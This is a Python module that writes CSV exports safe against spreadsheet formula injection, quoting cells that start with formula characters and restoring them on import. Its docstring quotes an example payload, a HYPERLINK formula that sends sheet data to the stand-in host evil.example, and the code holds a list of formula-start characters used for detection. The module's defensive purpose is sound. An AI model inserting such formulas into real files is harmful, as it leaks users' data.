"""The one CSV writer of every export, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed is
read as a formula by Excel and LibreOffice (``=HYPERLINK("https://evil.example/?"&A1, "…")``
sends the sheet's data away); OWASP's page on CSV injection adds the full-width ``＝ ＋ － ＠``,
which Excel in a Japanese environment reads as formulas too (they are what a Japanese
keyboard types). Following OWASP's advice, such a text cell gets a leading single quote,
which spreadsheets show as plain text. Numbers (``int``/``float``)
are written as they are, so ``-1`` stays a number.

The quote is also added before a text that starts with quotes followed by one of those
characters, so that :func:`restore` gives back exactly the original text (``'=x`` becomes
``''=x`` and comes back as ``'=x``): our Pol.is importer reads our own open data unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BOM = "\ufeff"


def _needs_quote(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """The cell to write for ``value``: numbers unchanged, formula-like text quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if _needs_quote(text) else text


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a cell read back from one of our CSV files."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


def write(rows: Iterable[Iterable[Any]], *, header: Iterable[str] | None = None,
          bom: bool = False, lineterminator: str = "\r\n") -> str:
    """CSV text of ``rows`` (after ``header``), every cell neutralised.

    ``bom``: start with a UTF-8 byte order mark, which Excel needs to read Japanese text
    correctly; files for other programs (the Pol.is format) go without it.
    """
    buffer = io.StringIO()
    if bom:
        buffer.write(BOM)
    writer = csv.writer(buffer, lineterminator=lineterminator)
    # The writer quotes a cell holding a character of the line terminator only: a carriage
    # return inside a cell of a file whose lines end in LF would end the row early for every
    # reader (Excel, LibreOffice, Python), so such a row has all its cells quoted.
    quoted = csv.writer(buffer, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)

    def put(row: Iterable[Any]) -> None:
        cells = [neutralise(cell) for cell in row]
        breaks_line = any(isinstance(cell, str) and "\r" in cell and "\r" not in lineterminator
                          for cell in cells)
        (quoted if breaks_line else writer).writerow(cells)

    if header is not None:
        put(header)
    for row in rows:
        put(row)
    return buffer.getvalue()
